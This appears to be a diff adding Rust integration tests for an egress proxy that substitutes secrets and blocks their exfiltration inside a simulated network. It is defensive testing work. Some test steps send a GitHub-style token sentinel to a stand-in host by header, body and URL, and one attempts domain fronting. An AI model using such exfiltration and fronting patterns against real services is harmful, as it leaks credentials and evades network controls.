@@ -1,0 +1,211 @@
+//! The inspecting proxy against real TLS clients in a fake internet: secrets reach their own
+//! hosts only, a sentinel sent anywhere else is refused and named with the process that sent
+//! it, route rules hold, and every request is recorded. Nothing here talks to a real address.
+
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+
+use journal::{Event, HttpRequest, Mode, SecretExfil, Verdict};
+use netfence::tls::{RunCa, UpstreamTls};
+use netfence::{InspectConfig, NetConfig, NetFence};
+use testnet::*;
+
+const POLICY: &str = "version: 1
+egress:
+  allow:
+    - { host: allowed.test, ports: [80, 443] }
+    - { host: other.test, ports: [80, 443] }
+inspect:
+  other.test:
+    routes: [\"GET /**\", \"POST /ok/**\"]
+";
+
+/// A GitHub-token-shaped secret: the real one and the hosts it belongs to.
+const REAL: &str = "ghs_R3alT0kenValue1234567890abcdefGHIJ";
+
+struct Run {
+    fence_ns: std::os::fd::OwnedFd,
+    cgroup: TestCgroup,
+    fence: Option<NetFence>,
+    events: Arc<Mutex<Vec<Event>>>,
+    ca_file: PathBuf,
+    sentinel: String,
+    _dir: tempfile::TempDir,
+}
+
+impl Run {
+    fn start(net: &FakeInternet, mode: Mode, tag: &str) -> Run {
+        let fence_ns = sandbox::network::create().expect("fence netns");
+        let cgroup = TestCgroup::new(tag);
+        let events = Arc::new(Mutex::new(Vec::new()));
+        let sink = events.clone();
+        let ca = Arc::new(RunCa::new(tag).expect("run CA"));
+        let dir = tempfile::tempdir().expect("tempdir");
+        let ca_file = dir.path().join("run-ca.pem");
+        std::fs::write(&ca_file, ca.pem()).expect("write CA");
+        let vault = inspect::Vault::new(vec![inspect::SecretSpec {
+            name: "SECRET_TOKEN".into(),
+            value: REAL.into(),
+            hosts: vec![policy::HostPattern::parse("allowed.test").expect("host")],
+        }])
+        .expect("vault");
+        let sentinel = vault.sentinels()[0].1.clone();
+        let cfg = NetConfig {
+            netns: fence_ns.try_clone().expect("dup"),
+            policy: Arc::new(policy::parse(POLICY, "ringfence.yml").expect("policy")),
+            mode,
+            upstream_dns: net.upstream(),
+            cgroup_procs: cgroup.procs_path(),
+            pid_hint: None,
+            inspect: InspectConfig {
+                ca,
+                upstream_tls: UpstreamTls::new(&[net.ca()]).expect("upstream trust"),
+                vault: Arc::new(vault),
+                repo: None,
+            },
+        };
+        let fence = on_host_side(net, || {
+            NetFence::start(cfg, Box::new(move |e| sink.lock().unwrap().push(e))).expect("fence starts")
+        });
+        Run { fence_ns, cgroup, fence: Some(fence), events, ca_file, sentinel, _dir: dir }
+    }
+
+    fn curl(&self, extra: &[&str]) -> (u32, std::process::Output) {
+        let ca = self.ca_file.display().to_string();
+        let mut argv = vec!["curl", "-sS", "--max-time", "8", "--noproxy", "*", "--cacert", &ca];
+        argv.extend_from_slice(extra);
+        run_in(&self.fence_ns, &self.cgroup, &argv)
+    }
+
+    fn stop(&mut self) {
+        self.fence.take().expect("running").stop();
+    }
+
+    fn requests(&self) -> Vec<HttpRequest> {
+        let events = self.events.lock().unwrap();
+        events
+            .iter()
+            .filter_map(|e| if let Event::HttpRequest(r) = e { Some(r.clone()) } else { None })
+            .collect()
+    }
+
+    fn exfils(&self) -> Vec<SecretExfil> {
+        let events = self.events.lock().unwrap();
+        events
+            .iter()
+            .filter_map(|e| if let Event::SecretExfil(x) = e { Some(x.clone()) } else { None })
+            .collect()
+    }
+
+    /// Waits until a request matching `pred` is recorded (it is written when its response ends).
+    fn wait_request(&self, pred: impl Fn(&HttpRequest) -> bool) -> HttpRequest {
+        for _ in 0..100 {
+            if let Some(r) = self.requests().into_iter().find(|r| pred(r)) {
+                return r;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(30));
+        }
+        panic!("no such request recorded; events: {:#?}", self.events.lock().unwrap());
+    }
+}
+
+#[test]
+fn a_secret_reaches_its_own_host_and_nowhere_else() {
+    if !privileged() {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
+    let net = FakeInternet::new();
+    let mut run = Run::start(&net, Mode::Block, "inspect-own");
+    assert_eq!(run.sentinel.len(), REAL.len());
+    assert!(run.sentinel.starts_with("ghs_") && run.sentinel != REAL);
+    let bearer = format!("Authorization: Bearer {}", run.sentinel);
+
+    // Its own host: the server sees the real value, the agent only ever held the sentinel.
+    let (pid, out) = run.curl(&["-H", &bearer, "https://allowed.test/headers"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let seen = stdout(&out);
+    assert!(seen.contains(&format!("Bearer {REAL}")), "upstream saw: {seen}");
+    let r = run.wait_request(|r| r.host == "allowed.test" && r.path == "/headers");
+    assert_eq!((r.pid, r.status, r.verdict, r.violation), (Some(pid), Some(200), Verdict::Allowed, false));
+    assert_eq!(r.injected, vec!["SECRET_TOKEN".to_string()]);
+    assert!(r.bytes_down > 0);
+
+    // Git sends tokens as HTTP Basic: replaced inside the base64 too.
+    let (_, out) =
+        run.curl(&["-u", &format!("x-access-token:{}", run.sentinel), "https://allowed.test/headers"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(stdout(&out).contains("Basic "), "{}", stdout(&out));
+    let r = run.wait_request(|r| r.host == "allowed.test" && r.injected.len() == 1 && r.pid != Some(pid));
+    assert_eq!(r.status, Some(200));
+
+    // Another allowed, inspected host: refused, reported as exfiltration with the process.
+    let (pid, out) = run.curl(&["-H", &bearer, "https://other.test/headers"]);
+    assert!(stdout(&out).contains("ringfence:"), "{}", stdout(&out));
+    let x = run.exfils().into_iter().find(|x| x.host == "other.test").expect("exfil recorded");
+    assert_eq!((x.pid, x.secret.as_str(), x.verdict), (Some(pid), "SECRET_TOKEN", Verdict::Blocked));
+    assert_eq!(x.location, "header authorization");
+    let r = run.wait_request(|r| r.host == "other.test" && r.pid == Some(pid));
+    assert_eq!((r.status, r.violation, r.rule.as_str()), (Some(403), true, "secrets"));
+
+    // In a body, and in a URL: found there too.
+    let (pid, _) = run.curl(&[
+        "--data-binary",
+        &format!("{{\"note\":\"{}\"}}", run.sentinel),
+        "https://other.test/ok/post",
+    ]);
+    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("body exfil recorded");
+    assert_eq!(x.location, "body");
+    let (pid, _) = run.curl(&[&format!("http://other.test/?k={}", run.sentinel)]);
+    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("url exfil recorded");
+    assert_eq!(x.location, "url");
+    run.stop();
+}
+
+#[test]
+fn route_rules_and_the_authority_are_enforced_per_request() {
+    if !privileged() {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
+    let net = FakeInternet::new();
+    let mut run = Run::start(&net, Mode::Block, "inspect-routes");
+
+    let (_, out) = run.curl(&["https://other.test/"]);
+    assert_eq!(stdout(&out), "hello from other.test\n");
+    let (pid, out) = run.curl(&["-X", "DELETE", "https://other.test/repo"]);
+    assert!(stdout(&out).contains("not allowed"), "{}", stdout(&out));
+    let r = run.wait_request(|r| r.pid == Some(pid));
+    assert_eq!((r.method.as_str(), r.status, r.violation), ("DELETE", Some(403), true));
+    assert_eq!(r.rule, "no route matches");
+
+    // Domain fronting inside TLS: SNI other.test, Host allowed.test.
+    let (pid, out) = run.curl(&["-H", "Host: allowed.test", "https://other.test/"]);
+    assert!(!stdout(&out).contains("hello"), "{}", stdout(&out));
+    let r = run.wait_request(|r| r.pid == Some(pid));
+    assert_eq!((r.status, r.rule.as_str()), (Some(421), "host-mismatch"));
+
+    // HTTP/2 end to end through the termination.
+    let (_, out) = run.curl(&["--http2", "https://other.test/"]);
+    assert_eq!(stdout(&out), "hello from other.test\n");
+    run.stop();
+}
+
+#[test]
+fn audit_mode_lets_a_foreign_sentinel_through_and_records_it() {
+    if !privileged() {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
+    let net = FakeInternet::new();
+    let mut run = Run::start(&net, Mode::Audit, "inspect-audit");
+    let bearer = format!("Authorization: Bearer {}", run.sentinel);
+    let (pid, out) = run.curl(&["-H", &bearer, "https://other.test/headers"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(stdout(&out).contains(&run.sentinel), "the sentinel passes unchanged: {}", stdout(&out));
+    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("exfil recorded");
+    assert_eq!(x.verdict, Verdict::Allowed);
+    let r = run.wait_request(|r| r.pid == Some(pid));
+    assert_eq!((r.status, r.violation), (Some(200), true));
+    run.stop();
+}
